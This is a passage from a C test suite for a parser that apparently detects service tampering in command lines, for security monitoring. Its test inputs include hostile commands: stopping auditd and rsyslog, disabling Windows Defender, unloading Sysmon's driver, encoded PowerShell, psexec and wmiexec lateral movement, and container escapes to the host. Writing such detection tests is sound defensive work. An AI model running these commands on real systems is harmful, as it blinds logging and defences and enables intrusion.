    {"systemctl stop {auditd,rsyslog}.service",
     "systemctl stop auditd.service rsyslog.service"},
    {"time -p systemctl stop x", "systemctl stop x <time"},
    {"function f { systemctl stop a; }", "systemctl stop a"},
    {"echo \"systemctl stop a\" | at now", "systemctl stop a <at"},
    {"at now + 1 minute <<< \"systemctl stop a\"", "systemctl stop a <at"},
    {"batch <<'EOF'\nsystemctl stop a\nEOF", "systemctl stop a <batch"},
    {"at -f /tmp/job now", NULL},
    {"at -f /etc/init.d/ssh now", NULL}, /* read on its input: it gets no argument */
    {"batch < /tmp/job", NULL},
    {"powershell –enc UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIAB4AA==",
     "powershell Stop-Service x <powershell !"},
    {"powershell.exe -ep bypass -c \"& {sc.exe stop x}\"", "sc stop x <powershell"},
    {"powershell -Command \"& 'C:\\Windows\\System32\\sc.exe' stop x\"", "sc stop x <powershell"},
    {"Get-CimInstance Win32_Service -Filter \"Name='x'\" | Invoke-CimMethod -MethodName StopService",
     "powershell Get-CimInstance x [Win32_Service|-Filter=Name='x'] ; powershell StopService x [-MethodName=StopService]"},
    {"(gwmi win32_service -computer web1 -filter \"name='x'\").stopservice()",
     "powershell Get-WmiObject x [win32_service|-computer=web1|-filter=name='x'] @web1 ; powershell StopService x"},
    {"Start-Process powershell -ArgumentList '-c Stop-Service x'",
     "powershell Stop-Service x <start-process <powershell"},
    {"wmic /node:\"web1\",\"web2\" service where name='x' call startservice",
     "wmic startservice x [/node:web1,web2] @web1,web2"},
    {"wmic path win32_service.name=\"x\" call startservice", "wmic startservice x"},
    {"nxc smb 10.0.0.1 -u a -p b -x 'sc stop x'", "sc stop x <nxc"},
    {"wmiexec.py -hashes :aa corp/a@10.0.0.1 \"net stop x\"",
     "net stop x @corp/a@10.0.0.1 <wmiexec.py"},
    {"docker run --rm -v /:/host alpine chroot /host systemctl enable x",
     "systemctl enable x @alpine <docker <chroot"},
    {"docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u -n -i systemctl stop x",
     "systemctl stop x @alpine <docker <nsenter"},
    {"sudo launchctl load -w /Library/LaunchDaemons/com.x.plist; launchctl bootstrap gui/$(id -u) ~/x.plist",
     "launchctl load /Library/LaunchDaemons/com.x.plist [-w] <sudo ; launchctl bootstrap ~/x.plist [domain=gui/$(id -u)]"},
    {"/bin/launchctl asuser \"$(id -u)\" launchctl load /tmp/x.plist",
     "launchctl asuser launchctl [uid=$(id -u)|command=launchctl load /tmp/x.plist] ; launchctl load /tmp/x.plist <launchctl"},
    {"osascript -e 'do shell script \"launchctl load -w /tmp/x.plist\" with administrator privileges'",
     "launchctl load /tmp/x.plist [-w] <osascript"},
    {"ssh host -- sudo systemctl stop x", "systemctl stop x @host <ssh <sudo"},
    {"scp x.service host:/etc/systemd/system/ && ssh host 'systemctl daemon-reload && systemctl start x'",
     "systemctl daemon-reload @host <ssh ; systemctl start x @host <ssh"},
    {"psexec64 -accepteula \\\\10.0.0.1 -u x -p y -h cmd /c \"net stop x & sc delete x\"",
     "psexec run cmd [-accepteula|-u=x|-p=y|-h|command=cmd /c net stop x & sc delete x] @10.0.0.1 ~ ; net stop x @10.0.0.1 <psexec <cmd ; sc delete x @10.0.0.1 <psexec <cmd"},
    {"for s in $(systemctl list-units --type=service | awk '{print $1}'); do systemctl stop $s; done",
     "systemctl list-units [--type=service] ; systemctl stop $s"},
    {"systemctl list-units --type=service --state=running | grep -i sql | awk '{print $1}' | xargs -r systemctl stop",
     "systemctl list-units [--type=service|--state=running] ; systemctl stop <xargs"},
    {"sudo sed -i 's#^ExecStart=.*#ExecStart=/tmp/x#' /lib/systemd/system/ssh.service && sudo systemctl daemon-reload && sudo systemctl restart ssh",
     "systemctl daemon-reload <sudo ; systemctl restart ssh <sudo"},
    {"net stop \"Security Center\" & net stop WinDefend & sc config WinDefend start= disabled",
     "net stop Security Center ; net stop WinDefend ; sc config WinDefend [start=disabled]"},
    {"cmd.exe /c \"for %i in (WinDefend Sense) do sc config %i start= disabled\"",
     "sc config WinDefend [start=disabled] <cmd ; sc config Sense [start=disabled] <cmd"},
    {"\"cmd\" /c net stop x", "net stop x <cmd"},
    {"C:\\Windows\\System32\\NET1.exe stop WinDefend /y", "net stop WinDefend [/y]"},
    {"sc query state= all | findstr /i sql", "sc query [state=all]"},
    {"for s in auditd rsyslog; do systemctl stop \"$s\"; systemctl mask ${s}.service; done",
     "systemctl stop auditd ; systemctl stop rsyslog ; "
     "systemctl mask auditd.service ; systemctl mask rsyslog.service"},
    {"for i in 1 2; do systemctl stop x$i; done", "systemctl stop x1 ; systemctl stop x2"},
    {"systemctl stop x{1..3}", "systemctl stop x1 x2 x3"},
    {"systemctl stop {auditd,rsys{log,}}.service",
     "systemctl stop auditd.service rsyslog.service rsys.service"},
    {"systemctl stop {a,b}{08..10..2} {c..a}",
     "systemctl stop a08 a10 b08 b10 c b a"},
    {"systemctl stop {a} {} {,} ${x}{1,2} $(awk '{print $1,$2}' l) \"{a,b}\"",
     "systemctl stop {a} {} ${x}1 ${x}2 $(awk '{print $1,$2}' l) {a,b}"},
    {"systemctl stop {1..2000} {{{{a,b", "systemctl stop {1..2000} {{{{a,b"},
    /* sixteen groups, and one more than are expanded */
    {"systemctl stop " EIGHT("{1..1}") EIGHT("{1..1}"), "systemctl stop " EIGHT("1") EIGHT("1")},
    {"systemctl stop " EIGHT("{1..1}") EIGHT("{1..1}") "{1..1}",
     "systemctl stop " EIGHT("{1..1}") EIGHT("{1..1}") "{1..1}"},
    {"for i in {1..2}; do systemctl stop x$i; done", "systemctl stop x1 ; systemctl stop x2"},
    {"for i in $(seq 2 3); do systemctl stop x$i; done", "systemctl stop x2 ; systemctl stop x3"},
    {"for i in $(seq $n); do systemctl stop x$i; done", "systemctl stop x$i"},
    {"for ((i=0; i<2; i++)); do systemctl stop x$i; done",
     "systemctl stop x0 ; systemctl stop x1"},
    {"for ((i=9;i>=5;i-=4)); do systemctl stop $i.service; done",
     "systemctl stop 9.service ; systemctl stop 5.service"},
    {"for ((i=0;i<$n;i++)); do systemctl stop x$i; done", "systemctl stop x$i"},
    {"for ((i=0;i<100000;i++)); do systemctl stop x$i; done", "systemctl stop x$i"},
    {"for h in web1 web2; do ssh $h \"systemctl stop x\"; done",
     "systemctl stop x @web1 <ssh ; systemctl stop x @web2 <ssh"},
    {"for i in a b; do for j in 1 2; do systemctl stop $i$j; done; done",
     "systemctl stop a1 ; systemctl stop b1 ; systemctl stop a2 ; systemctl stop b2"},
    {"for i in a b; do u=$i.service; systemctl stop \"$u\"; done",
     "systemctl stop a.service ; systemctl stop b.service"},
    {"for i in a; do systemctl stop ${i}.service; done", "systemctl stop a.service"},
    {"for s in /etc/x/*; do systemctl stop $s; done", "systemctl stop $s"},
    {"launchctl debug system/com.a.b --environment A=B",
     "launchctl debug system/com.a.b [--environment|A=B]"},
    {"plutil -replace RunAtLoad -bool true /Library/LaunchDaemons/com.a.plist",
     "plutil replace /Library/LaunchDaemons/com.a.plist [RunAtLoad|-bool|true]"},
    {"plutil -replace A -bool true /Users/a/x.plist", NULL},
    {"/usr/libexec/PlistBuddy -c 'Set :RunAtLoad true' /Library/LaunchAgents/com.a.plist",
     "PlistBuddy set /Library/LaunchAgents/com.a.plist [Set :RunAtLoad true]"},
    {"/usr/libexec/PlistBuddy -c 'Print :RunAtLoad' /Library/LaunchAgents/com.a.plist", NULL},
    {"defaults write /Library/LaunchDaemons/com.a RunAtLoad -bool true",
     "defaults write /Library/LaunchDaemons/com.a [RunAtLoad|-bool|true]"},
    {"defaults write com.apple.dock x -bool true", NULL},
    {"pnputil.exe /add-driver C:\\x\\evil.inf /install",
     "pnputil add-driver C:\\x\\evil.inf [/install]"},
    {"pnputil -i -a evil.inf", "pnputil add-driver evil.inf [-i]"},
    {"fltmc unload SysmonDrv", "fltmc unload SysmonDrv"},
    {"fltmc instances", NULL},
    {"for %%i in (WinDefend Sense) do sc stop %%i", "sc stop WinDefend ; sc stop Sense"},
    {"cmd /c \"for %i in (a,b) do net stop %i & sc delete %i\"",
     "net stop a <cmd ; net stop b <cmd ; sc delete a <cmd ; sc delete b <cmd"},
    {"for /f %i in (list.txt) do sc stop %i", "sc stop %i"},
    {"powershell -c \"foreach ($s in 'a', 'b') { Stop-Service $s }\"",
     "powershell Stop-Service a b <powershell"},
    {"/usr/bin/perl /usr/bin/deb-systemd-helper enable auditd.service",
     "deb-systemd-helper enable auditd.service"},
    {"/bin/sh /usr/sbin/invoke-rc.d --skip-systemd-native auditd start",
     "invoke-rc.d start auditd [--skip-systemd-native]"},
    {"/bin/sh /usr/sbin/service ssh restart", "service restart ssh"},
    {"/usr/bin/perl /usr/sbin/update-rc.d auditd defaults", "update-rc.d defaults auditd"},
    {"/usr/bin/python3 /usr/bin/supervisorctl restart all", "supervisorctl restart all"},
    {"/usr/bin/perl -w /usr/sbin/dpkg-preconfigure --apt", NULL},
    {"/bin/sh /var/lib/dpkg/info/cron.prerm upgrade 3.0pl1-162", NULL},
    {"python3 psexec.py a:b@10.0.0.1", "psexec.py run @10.0.0.1 ~"},
    {"bash -x /usr/sbin/service ssh stop", "service stop ssh"},
};

/* clang-format on */

/* The notation --------------------------------------------------------------- */

static void put_items(struct buffer *out, const cJSON *array, const char *before,
                      const char *between)
{
    const cJSON *item;

    cJSON_ArrayForEach(item, array)
    {
        buffer_puts(out, item == array->child ? before : between);
        buffer_puts(out, item->valuestring);
    }
}

static void put_use(struct buffer *out, const cJSON *use)
{
    const cJSON *remote = cJSON_GetObjectItem(use, "remote");
    const cJSON *options = cJSON_GetObjectItem(use, "options");

    buffer_printf(out, "%s %s", cJSON_GetObjectItem(use, "tool")->valuestring,
                  cJSON_GetObjectItem(use, "verb")->valuestring);
    put_items(out, cJSON_GetObjectItem(use, "targets"), " ", " ");
    put_items(out, options, " [", "|");
    if (options->child)
        buffer_putc(out, ']');
    if (cJSON_IsString(remote))
        buffer_printf(out, " @%s", remote->valuestring);
    put_items(out, cJSON_GetObjectItem(use, "via"), " <", " <");
    if (cJSON_IsTrue(cJSON_GetObjectItem(use, "runtime")))
        buffer_puts(out, " ~");
    if (cJSON_IsTrue(cJSON_GetObjectItem(use, "obfuscated")))
        buffer_puts(out, " !");
}

static cJSON *uses_of(const char *line, size_t size)
{
    struct buffer json = {0};
    int           n = command_line_services(line, size, &json);
    cJSON        *uses = n > 0 ? cJSON_Parse(buffer_text(&json)) : NULL;

    ck_assert_int_ge(n, 0);
    ck_assert_int_eq(n, cJSON_GetArraySize(uses));
    if (!n)
        ck_assert_uint_eq(json.size, 0);
    buffer_free(&json);
    return uses;
}

static void check_one(const struct expectation *e)
{
    struct buffer text = {0};
    cJSON        *uses = uses_of(e->line, strlen(e->line)), *use;

    cJSON_ArrayForEach(use, uses)
    {
        if (use != uses->child)
            buffer_puts(&text, " ; ");
        put_use(&text, use);
    }
    const char *got = uses ? buffer_text(&text) : "nothing";
    ck_assert_msg(strcmp(got, e->uses ? e->uses : "nothing") == 0,
                  "%s\n  expected %s\n  got      %s", e->line, e->uses ? e->uses : "nothing", got);
    cJSON_Delete(uses);
    buffer_free(&text);
}

static void check(const struct expectation *expectations, size_t n)
{
    for (size_t i = 0; i < n; i++)
        check_one(&expectations[i]);
}

START_TEST(systemctl_verbs_targets_and_options)
{
    check(systemctl, sizeof systemctl / sizeof systemctl[0]);
}
END_TEST

START_TEST(services_started_over_a_bus_or_as_transient_units)
{
    check(buses, sizeof buses / sizeof buses[0]);
}
END_TEST

START_TEST(sysv_upstart_openrc_and_supervisors)
{
    check(other_inits, sizeof other_inits / sizeof other_inits[0]);
}
END_TEST

START_TEST(launchctl_old_and_new_verbs)
{
    check(launchctl, sizeof launchctl / sizeof launchctl[0]);
}
END_TEST

START_TEST(wrappers_are_seen_through)
{
    check(wrappers, sizeof wrappers / sizeof wrappers[0]);
}
END_TEST

START_TEST(a_shell_line_is_taken_apart_as_its_shell_would)
{
    check(syntax, sizeof syntax / sizeof syntax[0]);
}
END_TEST

START_TEST(hiding_the_name_is_seen_through_and_reported)
{
    check(hidden, sizeof hidden / sizeof hidden[0]);
}
END_TEST

START_TEST(sc_and_net_with_their_own_syntax)
{
    check(sc_and_net, sizeof sc_and_net / sizeof sc_and_net[0]);
}
END_TEST

START_TEST(wmic_and_the_services_keys_of_reg)
{
    check(wmic_and_reg, sizeof wmic_and_reg / sizeof wmic_and_reg[0]);
}
END_TEST

START_TEST(psexec_and_its_clones)
{
    check(psexec, sizeof psexec / sizeof psexec[0]);
}
END_TEST

START_TEST(cmdlets_pipes_and_methods)
{
    check(powershell, sizeof powershell / sizeof powershell[0]);
}
END_TEST

START_TEST(cmd_groups_conditions_and_quotes)
{
    check(cmd, sizeof cmd / sizeof cmd[0]);
}
END_TEST

START_TEST(lines_that_only_name_a_tool_do_nothing)
{
    check(nothing, sizeof nothing / sizeof nothing[0]);
}
END_TEST

START_TEST(lines_as_the_field_writes_them)
{
    check(field, sizeof field / sizeof field[0]);
}
END_TEST

/* Hostile lines --------------------------------------------------------------- */

static int count_uses(const char *line, size_t size)
{
    cJSON *uses = uses_of(line, size);
    int    n = cJSON_GetArraySize(uses);

    cJSON_Delete(uses);
    return n;
}

/* `times` times `part` between `head` and `tail`; malloc()ed. */
static char *repeat(const char *head, const char *part, size_t times, const char *tail)
{
    struct buffer b = {0};

    buffer_puts(&b, head);
    for (size_t i = 0; i < times; i++)
        buffer_puts(&b, part);
    buffer_puts(&b, tail);
    ck_assert_ptr_nonnull(buffer_text(&b));
    return b.data;
}

static void expect_count(char *line, int n)
{
    ck_assert_int_eq(count_uses(line, strlen(line)), n);
    free(line);
}

START_TEST(uses_beyond_the_cap_are_left_out)
{
    expect_count(repeat("", "systemctl stop a;", 63, ""), 63);
    expect_count(repeat("", "systemctl stop a;", 1000, ""), COMMAND_USES_MAX + 1);
}
END_TEST

START_TEST(of_a_line_too_long_the_first_part_counts)
{
    expect_count(repeat("systemctl stop a; echo ", "x", 2 * SHELL_TEXT_MAX, "; systemctl stop b"),
                 1);
}
END_TEST

START_TEST(nesting_beyond_the_cap_is_one_unknown_call)
{
    expect_count(repeat("", "eval ", SHELL_DEPTH_MAX - 1, "systemctl stop a"), 1);
    expect_count(repeat("", "eval ", 1000, "systemctl stop a"), 1);
    expect_count(repeat("", "sudo ", COMMAND_USES_MAX * 2, "systemctl stop a"), 1);
    expect_count(repeat("echo ", "$(", 50000, "systemctl stop a"), 1);
}
END_TEST

START_TEST(unclosed_quotes_and_groups_reach_to_the_end)
{
    ck_assert_int_eq(count_uses("systemctl stop 'a b", 19), 1);
    ck_assert_int_eq(count_uses("systemctl stop \"a b", 19), 1);
    ck_assert_int_eq(count_uses("echo $(systemctl stop a", 23), 1);
    ck_assert_int_eq(count_uses("echo `systemctl stop a", 22), 1);
    ck_assert_int_eq(count_uses("systemctl stop a\\", 17), 1);
    ck_assert_int_eq(count_uses("sc stop \"a", 10), 1);
}
END_TEST

START_TEST(arguments_may_be_separated_by_nul_as_in_proc)
{
    static const char line[] = "/usr/bin/sudo\0systemctl\0stop\0a.service";

    ck_assert_int_eq(count_uses(line, sizeof line), 1);
}
END_TEST

START_TEST(bytes_that_are_no_utf8_stay_within_the_json)
{
    cJSON *uses = uses_of("systemctl stop \xff\xfe\"\x01", 19);

    ck_assert_int_eq(cJSON_GetArraySize(uses), 1);
    cJSON_Delete(uses);
}
END_TEST

/* Text that doubles at each step must be limited: it would need 2^60 bytes. */
/* The second call is the unknown one: a value was cut. */
START_TEST(values_that_grow_by_themselves_are_bounded_and_told)
{
    expect_count(repeat("a=xxxxxxxxxxxxxxxx;", "a=$a$a;", 60, "systemctl stop $a"), 2);
}
END_TEST

START_TEST(the_quick_look_agrees_with_the_reading)
{
    ck_assert(command_line_may_matter("x; sys\"temctl\" stop", 19));
    ck_assert(!command_line_may_matter("ls -l /etc/systemd", 18));
    ck_assert(!command_line_may_matter("", 0));
}
END_TEST

Suite *make_command_line_suite(void);

Suite *make_command_line_suite(void)
{
    Suite *suite = suite_create("command_line");
    TCase *lines = tcase_create("lines"), *hostile = tcase_create("hostile");

    tcase_add_test(lines, systemctl_verbs_targets_and_options);
    tcase_add_test(lines, services_started_over_a_bus_or_as_transient_units);
    tcase_add_test(lines, sysv_upstart_openrc_and_supervisors);
    tcase_add_test(lines, launchctl_old_and_new_verbs);
    tcase_add_test(lines, wrappers_are_seen_through);
    tcase_add_test(lines, a_shell_line_is_taken_apart_as_its_shell_would);
    tcase_add_test(lines, hiding_the_name_is_seen_through_and_reported);
    tcase_add_test(lines, sc_and_net_with_their_own_syntax);
    tcase_add_test(lines, wmic_and_the_services_keys_of_reg);
    tcase_add_test(lines, psexec_and_its_clones);
    tcase_add_test(lines, cmdlets_pipes_and_methods);
    tcase_add_test(lines, cmd_groups_conditions_and_quotes);
    tcase_add_test(lines, lines_that_only_name_a_tool_do_nothing);
    tcase_add_test(lines, lines_as_the_field_writes_them);
    suite_add_tcase(suite, lines);
    tcase_add_test(hostile, uses_beyond_the_cap_are_left_out);
    tcase_add_test(hostile, of_a_line_too_long_the_first_part_counts);
    tcase_add_test(hostile, nesting_beyond_the_cap_is_one_unknown_call);
    tcase_add_test(hostile, unclosed_quotes_and_groups_reach_to_the_end);
    tcase_add_test(hostile, arguments_may_be_separated_by_nul_as_in_proc);
    tcase_add_test(hostile, bytes_that_are_no_utf8_stay_within_the_json);
    tcase_add_test(hostile, values_that_grow_by_themselves_are_bounded_and_told);
    tcase_add_test(hostile, the_quick_look_agrees_with_the_reading);
    suite_add_tcase(suite, hostile);
    return suite;
}
